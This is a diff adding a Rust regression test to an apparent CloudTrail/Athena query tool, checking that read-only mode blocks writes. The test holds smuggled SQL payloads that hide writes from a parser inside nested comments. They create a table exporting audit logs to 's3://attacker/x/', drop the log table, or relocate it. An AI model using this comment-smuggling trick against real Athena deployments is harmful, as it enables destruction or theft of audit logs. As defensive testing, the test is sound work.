@@ -604,3 +604,51 @@ async fn the_aws_source_searches_the_trail_only_when_it_has_one() {
     assert_eq!(id, ID);
     assert_eq!(start.num_calls(), 1);
 }
+
+/// The issue's write: a CTAS that sqlparser's generic dialect read as a comment (its
+/// comments nest) and Athena's engine runs (Trino ends a comment at the first `*/`).
+const HIDDEN_CTAS: &str = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'";
+
+#[tokio::test]
+async fn read_only_refuses_writes_hidden_from_the_checker_before_they_are_sent() {
+    let sent = Arc::new(Mutex::new(Vec::new()));
+    let rule = recording(sent.clone());
+    let t = trail_with(&[&rule], settings(), true);
+    let writes = [
+        HIDDEN_CTAS.to_owned(),
+        HIDDEN_CTAS.replace(
+            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
+            "DROP TABLE cloudtrail_logs",
+        ),
+        HIDDEN_CTAS.replace(
+            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
+            "ALTER TABLE cloudtrail_logs SET LOCATION 's3://attacker/x/'",
+        ),
+        HIDDEN_CTAS.replace(
+            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
+            "MSCK REPAIR TABLE cloudtrail_logs",
+        ),
+        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a".to_owned(),
+    ];
+    for sql in writes {
+        let q = TrailQuery {
+            sql: sql.clone(),
+            ..query()
+        };
+        let err = t.start(&q).await.expect_err("a write in read-only mode");
+        assert!(
+            err.to_string()
+                .contains("read-only: StartQueryExecution refused"),
+            "{sql}: {err}"
+        );
+    }
+    assert_eq!(rule.num_calls(), 0, "nothing reached the wire");
+    assert!(sent.lock().unwrap().is_empty());
+    // A read still goes.
+    let read = TrailQuery {
+        sql: "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'".into(),
+        ..query()
+    };
+    t.start(&read).await.expect("a read in read-only mode");
+    assert_eq!(sent.lock().unwrap().len(), 1);
+}
